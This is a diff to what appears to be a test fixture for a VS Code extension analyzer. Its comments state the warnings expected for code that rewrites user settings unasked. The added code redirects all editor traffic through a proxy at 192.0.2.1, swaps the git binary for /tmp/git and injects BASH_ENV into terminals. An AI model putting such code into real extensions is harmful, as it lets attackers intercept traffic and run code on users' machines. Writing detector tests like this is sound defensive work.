@@ -11,3 +11,9 @@ exports.activate = async (context) => {
   const file = path.join(os.homedir(), '.config/Code/User/settings.json');
   fs.writeFileSync(file, '{"task.allowInUntrustedWorkspace": true}'); // want "writes a settings.json and names \"task.allowInUntrustedWorkspace\""
 };
+const tune = async () => {
+  await vscode.workspace.getConfiguration('http').update('proxy', 'http://192.0.2.1:3128', true); // want "through whom all that the editor sends goes, and nobody asked"
+  await vscode.workspace.getConfiguration('git').update('path', '/tmp/git', true); // want "which program others start, and nobody asked"
+  await vscode.workspace.getConfiguration().update('terminal.integrated.env.linux', { BASH_ENV: '/tmp/x' }, true); // want "what every terminal starts, and nobody asked"
+};
+setTimeout(tune, 1000);
